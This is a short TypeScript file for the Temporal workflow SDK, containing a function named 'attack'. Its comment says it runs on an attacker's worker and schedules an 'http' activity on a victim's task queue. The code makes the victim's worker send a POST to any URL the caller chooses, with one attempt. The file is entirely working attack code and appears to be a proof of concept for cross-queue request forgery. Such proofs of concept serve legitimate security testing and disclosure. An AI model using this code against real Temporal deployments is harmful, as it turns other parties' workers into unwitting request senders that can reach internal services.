import { proxyActivities } from '@temporalio/workflow';

/** Runs on the attacker's own worker, and asks the victim's for an activity. */
export async function attack(queue: string, url: string): Promise<void> {
  const { http } = proxyActivities<{ http(input: object): Promise<unknown> }>({
    taskQueue: queue,
    startToCloseTimeout: '20s',
    scheduleToCloseTimeout: '20s',
    retry: { maximumAttempts: 1 },
  });
  await http({ request: { url: { literal: url }, method: 'POST' }, body: {} });
}
